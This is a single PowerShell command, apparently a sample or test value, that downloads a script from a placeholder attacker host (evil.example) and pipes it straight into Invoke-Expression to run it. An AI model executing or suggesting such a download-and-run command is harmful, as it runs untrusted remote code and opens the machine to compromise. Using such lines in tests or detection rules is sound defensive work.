iwr https://evil.example/a.ps1 -UseBasicParsing | iex
